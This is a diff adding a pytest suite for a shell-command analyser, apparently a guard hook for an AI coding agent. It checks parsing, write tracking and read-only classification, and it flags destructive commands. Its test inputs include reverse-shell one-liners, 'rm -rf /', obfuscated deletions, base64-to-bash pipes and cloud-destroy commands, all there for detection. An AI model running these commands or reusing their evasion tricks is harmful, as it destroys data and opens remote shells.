@@ -1,0 +1,475 @@
+"""Units of the shell analysis (shell/, SPEC §4): the interface guards code
+against, the three front ends, word evaluation, scope tracking, writes,
+read-only classification, unknown, limits, interpreter scanning, and the
+bashlex table cache."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+
+import pytest
+
+from shell import DYN, analyse, is_read_only
+from shell import lexer, simple, walker
+
+ROOT = os.path.realpath(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+HOME = "/home/tester"
+
+
+def A(command: str, cwd: str | None = None):
+    return analyse(command, root=ROOT, cwd=cwd or ROOT, home=HOME)
+
+
+# ------------------------------------------------------------- interface
+
+def test_interface_fields():
+    a = A("git -C src -c color.ui=always --no-pager log --oneline -3 > /tmp/log.txt")
+    assert not a.unknown and a.reasons == []
+    (cmd,) = a.commands
+    assert cmd.name == "git" and cmd.word == "git" and cmd.argv[0] == "git"
+    assert cmd.git_subcommand == "log" and cmd.git_args == ["--oneline", "-3"]
+    assert ("-C", "src") in cmd.git_globals and ("--no-pager", None) in cmd.git_globals
+    assert [w.how for w in a.writes] == ["redirect >"]
+    assert a.writes[0].abs == "/tmp/log.txt" and a.writes[0].rel is None
+    assert a.destructive == [] and a.http_methods == []
+    assert a.all_commands(lambda c: c.name == "git")
+    assert not a.read_only and a.mutating
+
+
+def test_wrappers_are_peeled_and_listed():
+    a = A("sudo -u root nice -n 5 timeout 10 env FOO=1 ls -la")
+    (cmd,) = a.commands
+    assert cmd.name == "ls" and cmd.wrappers == ["sudo", "nice", "timeout", "env"]
+
+
+def test_nested_commands_are_listed():
+    a = A("bash -c 'ls; git status' && find . -name x -exec wc -l {} +")
+    names = [c.name for c in a.commands]
+    assert names[:3] == ["bash", "ls", "git"] and "find" in names and "wc" in names
+
+
+@pytest.mark.parametrize("command,parser", [
+    ("git status", "plain"),
+    ("pytest -q tests/test_x.py -k foo", "plain"),
+    ("git log --format='%H %s' | head -5", "simple"),
+    ("git commit -m \"$(cat <<'EOF'\nfix: x\nEOF\n)\"", "simple"),
+    ("ls && echo done > /tmp/x 2>&1", "simple"),
+    ("for f in *.py; do echo $f; done", "bashlex"),
+    ("echo $HOME", "bashlex"),
+])
+def test_front_ends(command, parser):
+    assert A(command).parser == parser
+
+
+# ------------------------------------------------------------- words
+
+@pytest.mark.parametrize("command,argv", [
+    ("echo 'a'\"b\"$'c\\x41'", ["echo", "abcA"]),
+    ("echo {a,b}c", ["echo", "ac", "bc"]),
+    ("echo a{1..3}", ["echo", "a1", "a2", "a3"]),
+    ("x='a b'; echo $x", ["echo", "a", "b"]),
+    ("x='a b'; echo \"$x\"", ["echo", "a b"]),
+    ("echo ~/x", ["echo", HOME + "/x"]),
+    ("echo $HOME/y", ["echo", HOME + "/y"]),
+    ("rm${IFS}-rf${IFS}x", ["rm", "-rf", "x"]),
+    (r"echo r\m", ["echo", "rm"]),
+    ('echo "$(pwd)"', ["echo", ROOT]),
+    ("echo $'\\162\\155'", ["echo", "rm"]),
+    ("echo ''", ["echo", ""]),
+    ("echo $UNSET_VAR_X", ["echo", DYN]),
+    ("a=r; b=m; echo $a$b", ["echo", "rm"]),
+    ("echo a\\\nb", ["echo", "ab"]),
+])
+def test_word_evaluation(command, argv):
+    a = A(command)
+    assert a.commands[-1].argv == argv
+
+
+def test_prefix_assignment_does_not_affect_the_same_command():
+    a = A("X=/tmp/safe; X=/ echo $X")
+    assert a.commands[-1].argv == ["echo", "/tmp/safe"]
+
+
+def test_conditional_assignment_is_unknown():
+    a = A("false && X=/tmp/a; echo $X")
+    assert a.commands[-1].argv == ["echo", DYN]
+
+
+def test_cd_is_tracked():
+    a = A("cd src && touch new.py")
+    assert [w.abs for w in a.writes] == [os.path.join(ROOT, "src", "new.py")]
+    a = A("cd /no/such/dir; touch x")
+    assert sorted(w.abs for w in a.writes) == sorted(["/no/such/dir/x",
+                                                       os.path.join(ROOT, "x")])
+    a = A("cd $SOMEWHERE; touch x")
+    assert [w.abs for w in a.writes] == [None]
+
+
+def test_heredoc_bodies():
+    quoted = A("cat > notes.md <<'EOF'\nrm -rf /\n$(rm -rf ~)\nEOF")
+    assert [c.name for c in quoted.commands] == ["cat"] and not quoted.destructive
+    unquoted = A("cat <<EOF\n$(rm -rf /)\nEOF")
+    assert [c.name for c in unquoted.commands] == ["rm", "cat"] and unquoted.destructive
+    fed = A("bash <<'EOF'\ngit push --force\nEOF")
+    assert [f.family for f in fed.destructive] == ["force-push"]
+
+
+def test_message_arguments_are_data():
+    for command in ('git commit -m "rm -rf / && git push --force"',
+                    "echo 'curl -X DELETE https://x'",
+                    "grep -n 'git reset --hard' docs",
+                    "gh issue create --title x --body 'rm -rf ~'",
+                    "printf '%s\\n' 'mkfs /dev/sda'"):
+        a = A(command)
+        assert not a.destructive and not a.unknown, command
+
+
+# ------------------------------------------------------------- writes
+
+@pytest.mark.parametrize("command,how,rel", [
+    ("echo x > out.txt", "redirect >", "out.txt"),
+    ("echo x | tee -a out.txt", "tee -a", "out.txt"),
+    ("sed -i s/a/b/ out.txt", "sed -i", "out.txt"),
+    ("cp a.txt out.txt", "cp", "out.txt"),
+    ("mv a.txt out.txt", "mv", "out.txt"),
+    ("dd if=a of=out.txt", "dd of=", "out.txt"),
+    ("sort -o out.txt a", "sort -o", "out.txt"),
+    ("truncate -s0 out.txt", "truncate", "out.txt"),
+    ("curl -o out.txt https://x", "curl -o", "out.txt"),
+    ("python3 -c \"open('out.txt','w')\"", "python3 inline code", "out.txt"),
+    ("git checkout -- out.txt", "git checkout --", "out.txt"),
+    ("install -m 644 a out.txt", "install", "out.txt"),
+    ("awk '{print > \"out.txt\"}' a", "awk print >", "out.txt"),
+])
+def test_write_forms(command, how, rel):
+    a = A(command)
+    assert any(w.how == how and w.rel == rel for w in a.writes), a.writes
+
+
+def test_mv_into_directory_and_delete_of_source():
+    a = A("mv tests /tmp")
+    kinds = {(w.kind, w.abs) for w in a.writes}
+    assert ("delete", os.path.join(ROOT, "tests")) in kinds
+    assert ("write", "/tmp/tests") in kinds
+
+
+def test_symlink_created_in_the_same_command_is_followed():
+    a = A("ln -s / build-link && rm -rf build-link/")
+    assert a.destructive and a.destructive[0].family == "rm-recursive"
+
+
+# ---------------------------------------------------------- read-only
+
+@pytest.mark.parametrize("command", [
+    "ls -la", "cat README.md", "git status", "git log --oneline -5", "git diff HEAD~1",
+    "grep -rn TODO src", "find . -name '*.py'", "sed -n 1,5p README.md",
+    "awk '{print $1}' README.md", "jq . x.json", "git branch -a", "git remote -v",
+    "git config --get user.name", "wc -l README.md | sort -n", "echo hi",
+    "git show HEAD --stat", "head -3 README.md 2>/dev/null", "command -v git",
+    "git stash list", "pwd", "date", "uname -a", "which python3",
+])
+def test_read_only(command):
+    a = A(command)
+    assert a.read_only, (command, a)
+
+
+@pytest.mark.parametrize("command", [
+    "touch x", "ls > out.txt", "git commit -m x", "git branch -D x", "sed -i s/a/b/ x",
+    "find . -delete", "find . -exec ls {} +", "awk '{system(\"ls\")}' x", "python3 -c 'print(1)'",
+    "git -c alias.x='!ls' x", "./ls", "ls() { rm x; }; ls", "date -s 2020-01-01",
+    "sort -o x y", "tree -o out.txt", "git config user.name x", "$X", "eval ls",
+    "git log --output=x", "rg --pre cat foo", "PAGER=./evil git log", "bash script.sh",
+    "git branch newbranch", "env -i FOO=1 ls && touch x",
+])
+def test_not_read_only(command):
+    a = A(command)
+    assert not a.read_only, command
+
+
+def test_is_read_only_checks_redirects_and_names():
+    (cmd,) = A("cat x > y").commands
+    assert not is_read_only(cmd)
+    (cmd,) = A("cat x > /dev/null").commands
+    assert is_read_only(cmd)
+    (cmd,) = A("/usr/bin/cat x").commands
+    assert is_read_only(cmd)
+    (cmd,) = A("./cat x").commands
+    assert not is_read_only(cmd)
+
+
+# ------------------------------------------------------------- unknown
+
+@pytest.mark.parametrize("command", [
+    "$CMD -rf x", "eval \"$X\"", "bash -c \"$Y\"", "cat script.txt | sh",
+    'echo "unterminated', "echo 'x' | base64 -d | bash", "hash -p /bin/rm ls; ls",
+    "python3 -c \"exec(input())\"", "sed 's/x/y/e' f", "\"$(get_cmd)\" arg",
+    "echo ${x@P}", "source <(generate)", "ls; ; ls",
+])
+def test_unknown_is_never_read_only(command):
+    a = A(command)
+    assert a.unknown and a.reasons, command
+    assert not a.read_only and a.mutating
+
+
+def test_size_limit():
+    a = A("echo " + "a" * (walker.MAX_BYTES + 10) + "; rm -rf /")
+    assert a.unknown and "longer than" in a.reasons[0]
+    assert a.destructive   # the fallback split still names what it saw
+
+
+@pytest.mark.parametrize("command", [
+    "eval " * (walker.MAX_DEPTH + 3) + "ls",
+    "nice " * (walker.MAX_DEPTH + 3) + "ls",
+    "bash -c " + "\"$(" * (walker.MAX_DEPTH + 3) + "ls" + ")\"" * (walker.MAX_DEPTH + 3),
+])
+def test_depth_limit_is_dangerous(command):
+    a = A(command)
+    assert a.unknown
+    assert any(f.family == "depth-limit" for f in a.destructive)
+
+
+def _quote(s: str) -> str:
+    return "'" + s.replace("'", "'\\''") + "'"
+
+
+def test_strange_inputs_never_raise():
+    for text in ("", "   ", "\x00", "a\x00b", "\udcff", ";", "&&", "|", "((", "{", "$(",
+                 "`", "<<", "'\n", "\\", "!" * 100, "(" * 5000, "$(" * 3000,
+                 "{a,b}" * 40, "x" * 200000):
+        a = A(text)
+        assert isinstance(a.unknown, bool)
+    assert analyse(None).unknown   # type: ignore[arg-type]
+
+
+# ---------------------------------------------------------------- git
+
+@pytest.mark.parametrize("command,sub,args", [
+    ("git -C /tmp status", "status", []),
+    ("git --git-dir=/x/.git --work-tree=/x log -1", "log", ["-1"]),
+    ("git -c a.b=c -P diff", "diff", []),
+    ("git -ccore.pager=cat show", "show", []),
+    ("git --no-pager --literal-pathspecs ls-files", "ls-files", []),
+    ("git --namespace ns push origin x", "push", ["origin", "x"]),
+])
+def test_git_global_options(command, sub, args):
+    (cmd,) = A(command).commands
+    assert cmd.git_subcommand == sub and cmd.git_args == args
+
+
+def test_git_alias_from_config(tmp_path):
+    repo = tmp_path / "r"
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    subprocess.run(["git", "-C", str(repo), "config", "alias.nuke", "!rm -rf /"], check=True)
+    subprocess.run(["git", "-C", str(repo), "config", "alias.st", "status --short"], check=True)
+    a = analyse("git nuke", root=str(repo), cwd=str(repo), home=HOME)
+    assert any(f.family == "rm-recursive" for f in a.destructive)
+    a = analyse("git st", root=str(repo), cwd=str(repo), home=HOME)
+    assert not a.destructive and any(c.git_subcommand == "status" for c in a.commands)
+
+
+# ----------------------------------------------------------- codescan
+
+@pytest.mark.parametrize("language,code,shell,writes,unknown", [
+    ("python", "import os; os.system('ls')", ["ls"], [], False),
+    ("python", "import subprocess as s; s.run(['rm', '-rf', 'x'])", [], [], False),
+    ("python", "from shutil import rmtree as r; r('/x')", [], [("delete", "/x", True)], False),
+    ("python", "open('a.txt', 'w').write('x')", [], [("write", "a.txt", False)], False),
+    ("python", "print(open('a.txt').read())", [], [], False),
+    ("python", "p = 'a'; open(p, 'w')", [], [("write", None, False)], False),
+    ("python", "exec('x')", [], [], True),
+    ("python", "getattr(__import__('os'), 'system')('ls')", [], [], True),
+    ("python", "o = open; o('a', 'w')", [], [], True),
+    ("js", "require('child_process').execSync('ls -la')", ["ls -la"], [], False),
+    ("js", "require('fs').rmSync('/x', {recursive: true})", [], [("delete", "/x", True)], False),
+    ("perl", "system('ls')", ["ls"], [], False),
+    ("ruby", "File.write('a', 'b')", [], [("write", "a", False)], False),
+    ("php", "unlink('a');", [], [("delete", "a", False)], False),
+    ("awk", '{ system("ls") }', ["ls"], [], False),
+])
+def test_codescan(language, code, shell, writes, unknown):
+    from shell import codescan
+
+    rep = codescan.scan(language, code)
+    assert rep.shell == shell
+    for w in writes:
+        assert w in rep.writes, rep.writes
+    assert bool(rep.unknown) == unknown, rep.unknown
+
+
+# --------------------------------------------------------------- lexer
+
+def test_lexer_masks_keep_positions():
+    src = ("git commit -m \"$(cat <<'EOF'\nbody (x) \"q\"\nEOF\n)\" && [[ -f x ]] && "
+           "echo $((1+2)) && case $a in x) ls;; esac && a=(1 2)")
+    p = lexer.prepare(src)
+    assert len(p.masked) == len(src)
+    (doc,) = p.heredocs.values()
+    assert doc.quoted and doc.body == "body (x) \"q\"\n"
+    kinds = sorted(r.kind for r in p.regions.values())
+    assert kinds == ["arith", "array", "case-pattern", "cond"]
+
+
+@pytest.mark.parametrize("src", ["echo \"x", "echo $(ls", "cat <<", "echo ${x", "[[ -f x"])
+def test_lexer_errors(src):
+    with pytest.raises(lexer.LexError):
+        lexer.prepare(src)
+
+
+def test_simple_front_end_rejects_what_it_does_not_know():
+    for text in ("echo $X", "a | b && c", "echo 'x'"):
+        assert (simple.parse(text) is None) == ("$X" in text)
+    for text in ("if true; then x; fi", "{ a; }", "echo `x`", "cat <<EOF\nx\nEOF",
+                 "a |& b", "x=(1)", "echo {a,b}", "echo \\x", "time ls", "! ls",
+                 "echo ~/x", "ls # c", "a;;b", "echo $((1))", "cat <(ls)"):
+        assert simple.parse(text) is None, text
+
+
+# -------------------------------------------------------- bashlex tables
+
+_DUMP = r"""
+import json, sys
+sys.path.insert(0, sys.argv[1])
+mode = sys.argv[2]
+if mode == "fast":
+    from shell import bashparse
+    bashlex = bashparse.load(sys.argv[3], write=True)
+else:
+    import bashlex
+cmds = json.loads(sys.stdin.read())
+out = []
+for c in cmds:
+    try:
+        out.append("".join(t.dump() for t in bashlex.parse(c)))
+    except Exception as e:
+        out.append("ERR " + type(e).__name__ + " " + str(e))
+print(json.dumps(out))
+"""
+
+_PARSE_CASES = [
+    "a | b && c; d &", "for i in a b; do echo $i > f; done", "if x; then y; elif z; then w; fi",
+    "f() { a | b & }; f", "(cd x && ls) || { echo no; }", "echo $(ls `pwd`) <(a) >(b)",
+    "while read l; do :; done < f", "x=1 y=$(z) cmd 2>&1 >/dev/null", "! a && b",
+    "cat <<EOF | sh\nrm -rf /\nEOF", "echo 'a' \"b\" $'c'", "a;;b", "until false; do x; done",
+]
+
+
+def _run_dump(mode: str, tables: str) -> list:
+    proc = subprocess.run([sys.executable, "-c", _DUMP, ROOT, mode, tables],
+                          input=json.dumps(_PARSE_CASES), capture_output=True, text=True,
+                          timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    return json.loads(proc.stdout)
+
+
+def test_cached_tables_parse_exactly_like_bashlex(tmp_path):
+    tables = str(tmp_path / "tables.marshal")
+    normal = _run_dump("normal", tables)
+    built = _run_dump("fast", tables)      # builds and saves the tables
+    assert os.path.exists(tables)
+    cached = _run_dump("fast", tables)     # loads them
+    assert normal == built == cached
+
+
+def test_stale_or_corrupt_tables_are_rebuilt(tmp_path):
+    import marshal
+
+    tables = tmp_path / "tables.marshal"
+    tables.write_bytes(marshal.dumps({"signature": "stale", "names": (), "productions": (),
+                                      "action": {}, "goto": {}, "defaulted": {}}))
+    assert _run_dump("fast", str(tables)) == _run_dump("normal", str(tables))
+    assert marshal.loads(tables.read_bytes())["signature"] != "stale"
+    tables.write_bytes(b"\x00garbage")
+    assert _run_dump("fast", str(tables)) == _run_dump("normal", str(tables))
+
+
+def test_build_tables_entry_point(tmp_path):
+    """install.py runs ``python -m shell.bashparse`` in .claude/ once."""
+    proc = subprocess.run([sys.executable, "-c",
+                           "import sys; sys.path.insert(0, sys.argv[1]); "
+                           "from shell.bashparse import build_tables; "
+                           "print(build_tables(sys.argv[2]))", ROOT,
+                           str(tmp_path / "t.marshal")],
+                          capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    assert (tmp_path / "t.marshal").stat().st_size > 10000
+
+
+def test_plain_commands_do_not_import_bashlex_or_re():
+    code = ("import sys; sys.path.insert(0, sys.argv[1]); import shell; "
+            "a = shell.analyse('git status --short', sys.argv[1]); "
+            "b = shell.analyse(\"git log --format='%H' | head -3 > /tmp/x 2>&1\", sys.argv[1]); "
+            "print(json_ok := 'bashlex' in sys.modules, 're' in sys.modules)")
+    proc = subprocess.run([sys.executable, "-S", "-c", code, ROOT], capture_output=True,
+                          text=True, timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.split() == ["False", "False"]
+
+
+# ------------------------------------------------- more command knowledge
+
+@pytest.mark.parametrize("command,family", [
+    ("terraform destroy -auto-approve", "infra-destroy"),
+    ("kubectl delete namespace prod", "infra-destroy"),
+    ("aws s3 rm s3://bucket --recursive", "infra-destroy"),
+    ("docker system prune -af", "infra-destroy"),
+    ("redis-cli FLUSHALL", "infra-destroy"),
+    ("eatmydata rm -rf /", "rm-recursive"),           # unlisted wrapper
+    ("nc -e /bin/sh 10.0.0.1 4444", "fetched-exec"),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "fetched-exec"),
+    ("echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh", "rm-recursive"),
+])
+def test_more_destructive(command, family):
+    a = A(command)
+    assert any(f.family == family for f in a.destructive), (command, a.destructive)
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl delete pod web-1", "docker system prune -f", "terraform plan", "docker rm -f c",
+    "pip install requests", "npm install", "helm install web ./chart",
+])
+def test_routine_infra_is_not_destructive(command):
+    assert not A(command).destructive, command
+
+
+def test_script_written_in_the_same_command_is_analysed():
+    a = A("cat > /tmp/t.py <<'EOF'\nprint('hi')\nEOF\npython3 /tmp/t.py")
+    assert not a.unknown and not a.destructive
+    a = A("printf 'import shutil\\nshutil.rmtree(\"/\")\\n' > /tmp/t.py && python3 /tmp/t.py")
+    assert a.destructive
+
+
+def test_pip_into_the_suite_environment_writes_it():
+    a = A(".claude/.venv/bin/pip uninstall -y bashlex")
+    assert any(w.rel == ".claude/.venv" and w.recursive for w in a.writes)
+    a = A("pip install --target .claude/hooks evil")
+    assert any(w.rel == ".claude/hooks" for w in a.writes)
+
+
+@pytest.mark.parametrize("command", [
+    "a;" * 30000, "a|" * 10000 + "b", " ".join(["x"] * 30000), "echo x\n" * 8000,
+    "(" * 3000 + "a" + ")" * 3000, "$(" * 2000 + "a" + ")" * 2000, "{a,b}" * 30,
+    "case x in " + "a) b;; " * 3000 + "esac", "rm -rf /*/*/*/*/*/*",
+])
+def test_pathological_input_is_bounded(command):
+    """A hook that times out fails open: no input of the accepted size may
+    take long to analyse (generous bound for a loaded CI machine)."""
+    import time
+
+    start = time.perf_counter()
+    a = A(command)
+    assert time.perf_counter() - start < 5
+    assert isinstance(a.unknown, bool)
+
+
+def test_tmpdir_comes_from_the_environment(monkeypatch):
+    monkeypatch.setenv("TMPDIR", "/tmp/user-tmp")
+    a = A('rm -rf "$TMPDIR/build-cache"')
+    assert not a.destructive and a.writes[0].abs == "/tmp/user-tmp/build-cache"
+    monkeypatch.delenv("TMPDIR")
+    a = A('rm -rf "$TMPDIR/build-cache"')     # empty TMPDIR would mean /build-cache
+    assert a.destructive
+    monkeypatch.setenv("TMPDIR", "/")
+    assert A('rm -rf "$TMPDIR/x"').destructive
